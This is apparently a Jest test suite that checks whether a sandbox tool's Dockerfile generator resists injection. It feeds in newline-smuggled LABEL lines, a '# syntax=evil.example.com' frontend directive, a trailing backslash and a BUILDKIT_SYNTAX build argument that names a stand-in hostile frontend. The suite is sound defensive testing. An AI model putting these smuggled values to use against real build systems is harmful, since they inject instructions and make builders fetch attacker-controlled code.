import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, expect } from '@jest/globals';
import { attack } from '../support/attack.js';
import { cleanFolders, makeFolder, runSjs, sandboxYaml, world } from '../support/world.js';

cleanFolders();
let home: string;
beforeAll(async () => {
  home = await makeFolder();
});
const images = new Set<string>();
afterAll(() => {
  for (const image of images) execFileSync('docker', ['image', 'rm', '-f', image], { stdio: 'ignore' });
});

const docker = (args: readonly string[], input = ''): string =>
  execFileSync('docker', args, { encoding: 'utf8', stdio: 'pipe', input, timeout: 60_000 }).trim();
const labelsOf = (image: string): Record<string, string> =>
  JSON.parse(docker(['image', 'inspect', '--format', '{{json .Config.Labels}}', image])) as Record<
    string,
    string
  >;

/** The Dockerfile that `sjs plan` shows for lines under `spec`, or the code of its refusal. */
async function plan(spec: string): Promise<{ dockerfile: string; code: string }> {
  const folder = await makeFolder({ 'sandbox.yaml': sandboxYaml('templated', spec), 'index.js': '1' });
  const { stdout } = await runSjs(home, ['plan', folder, '--json']);
  const answer = JSON.parse(stdout) as { dockerfile?: string; error?: { code: string } };
  return { dockerfile: answer.dockerfile ?? '', code: answer.error?.code ?? 'accepted' };
}
const instructionsOf = (dockerfile: string): string[] =>
  dockerfile.split('\n').flatMap((line) => /^[A-Z]+/.exec(line) ?? []);

/** What a template does that puts values in as they are; built by docker. */
function buildNaively(value: string, before = ''): string {
  const image = docker(['build', '-q', '-'], `${before}FROM scratch\nENV X=${value}\nLABEL kept=yes\n`);
  images.add(image);
  return image;
}

attack(
  'T01',
  async () => {
    for (const value of ['x\\nLABEL broken.out=yes', 'x\\rLABEL y=1', 'x\\u0085y', 'x\\u2028y']) {
      for (const spec of [`env: { X: "${value}" }`, `args: ["${value}"]`, `command: [node, "${value}"]`]) {
        const { code } = await plan(`  ${spec}\n`);
        expect({ spec, code }).toEqual({
          spec,
          code: expect.stringMatching(/^(SANDBOX_INVALID|YAML_SYNTAX)$/),
        });
      }
    }
    return 'SANDBOX_INVALID in env, args and command';
  },
  () => {
    expect(labelsOf(buildNaively('x\nLABEL broken.out=yes'))).toMatchObject({ 'broken.out': 'yes' });
    return 'put in as it is, the value brings an instruction of its own';
  },
);

attack(
  'T02',
  async () => {
    const { dockerfile, code } = await plan(
      '  env: { X: "# syntax=evil.example.com/frontend" }\n  args: ["# escape=`"]\n',
    );
    expect(code).toBe('accepted');
    const [first] = dockerfile.split('\n');
    expect(first).toBe(readFileSync('templates/node.Dockerfile', 'utf8').split('\n')[0]);
    expect(dockerfile.split('\n').filter((line) => /^#\s*\w+\s*=/.test(line))).toEqual([]);
    return 'line 1 is the template’s own; no directive';
  },
  () => {
    const frontend = `127.0.0.1:9/evil/frontend`;
    expect(() => buildNaively('x', `# syntax=${frontend}\n`)).toThrow(/127\.0\.0\.1:9/);
    return 'on line 1 of a Dockerfile, the builder goes for the frontend';
  },
);

attack(
  'T03',
  async () => {
    const plain = instructionsOf((await plan('  env: { X: x }\n  args: [x]\n')).dockerfile);
    for (const value of ['x\\', 'x`']) {
      const text = JSON.stringify(value);
      const folder = await makeFolder({
        'sandbox.yaml': sandboxYaml('templated', `  env: { X: ${text} }\n  args: [${text}]\n`),
        'index.js': 'console.log(process.env.X, process.argv[2])',
      });
      const { dockerfile } = await plan(`  env: { X: ${text} }\n  args: [${text}]\n`);
      expect(instructionsOf(dockerfile)).toEqual(plain);
      const tag = (await runSjs(home, ['build', folder])).stdout.trim();
      images.add(tag);
      expect((await runSjs(home, ['run', tag])).stdout).toBe(`${value} ${value}\n`);
    }
    return 'every instruction is there, and the program gets the values';
  },
  () => {
    const labels = labelsOf(buildNaively('x\\')) as Record<string, string> | null;
    expect(labels?.['kept']).toBeUndefined();
    return 'put in as it is, the backslash swallows the next instruction';
  },
);

attack(
  'T06',
  async () => {
    for (const line of ['buildArgs: { BUILDKIT_SYNTAX: evil/fe }', 'build: { args: { http_proxy: x } }']) {
      expect(await plan(`  ${line}\n`)).toMatchObject({ code: 'SANDBOX_INVALID' });
    }
    const environment = { BUILDKIT_SYNTAX: '127.0.0.1:9/evil/fe', SOURCE_DATE_EPOCH: '7', NO_SUCH: 'x' };
    const folder = await makeFolder({
      'sandbox.yaml': sandboxYaml('args', '  args: [one]\n'),
      'index.js': '1',
    });
    const built = await runSjs(home, ['build', folder], { env: environment });
    expect(built).toMatchObject({ code: 0 });
    images.add(built.stdout.trim());
    const created = docker(['image', 'inspect', '--format', '{{.Created}}', built.stdout.trim()]);
    expect(created).toBe('1970-01-01T00:00:00Z');
    return 'SANDBOX_INVALID; sjs’s own build argument is the only one';
  },
  () => {
    const flags = ['--build-arg', 'BUILDKIT_SYNTAX=127.0.0.1:9/evil/fe'];
    expect(() => docker(['build', '-q', ...flags, '-'], `FROM ${world.reference}\nLABEL x=y\n`)).toThrow(
      /127\.0\.0\.1:9/,
    );
    return 'docker build goes for the frontend that the argument names';
  },
);
